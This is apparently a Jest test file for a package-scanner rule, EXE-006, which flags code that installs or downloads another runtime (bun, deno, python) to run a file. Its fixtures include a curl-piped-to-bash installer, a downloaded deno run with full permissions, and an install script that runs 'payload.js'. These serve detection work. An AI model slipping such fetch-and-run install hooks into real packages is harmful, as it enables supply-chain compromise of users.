import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

const USE = `const { spawn, execSync, spawnSync } = require('child_process'), path = require('path'), os = require('os');`;

const found = [
  [
    'bun, by its installer',
    `execSync('curl -fsSL https://bun.example.invalid/install | bash');
     const start = (program, args) => spawn(program, args, { stdio: 'ignore' });
     start(path.join(os.homedir(), '.bun', 'bin', 'bun'), [path.join(__dirname, 'bun_environment.js')]);`,
  ],
  ['bun, by npm', `execSync('npm install -g bun'); spawnSync('bun', ['run', path.join(__dirname, 'a.js')]);`],
  [
    'deno, by a download',
    `const https = require('https'); const url = 'https://dl.deno.example.invalid/release/deno.zip'; https.get(url, unpack);
     spawn('/tmp/deno', ['run', '-A', './a.ts']);`,
  ],
  ['python', `execSync('apt-get install -y python3'); execSync('python3 ./a.py');`],
] as const;

const passed = [
  [
    'bun as a package manager',
    `spawnSync('bun', ['install']); console.log('see https://bun.example.invalid/install');`,
  ],
  ['the Node.js that runs', `spawn('node', [path.join(__dirname, 'a.js')]);`],
  ['a check of what was installed', `execSync('npm install bun'); spawnSync('bun', ['--version']);`],
  ['python that is there', `spawn('python3', ['gyp_main.py']);`],
] as const;

describe('EXE-006 brings another runtime to run a file with', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('EXE-006', js(USE + source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('EXE-006', js(USE + source))).toEqual([]);
  });

  it('finds it in an install script', () => {
    const install = 'npm i -g bun && bun run payload.js';
    expect(hitsOf('EXE-006', manifest({ scripts: { install } }))).toEqual(['critical package.json']);
  });
});
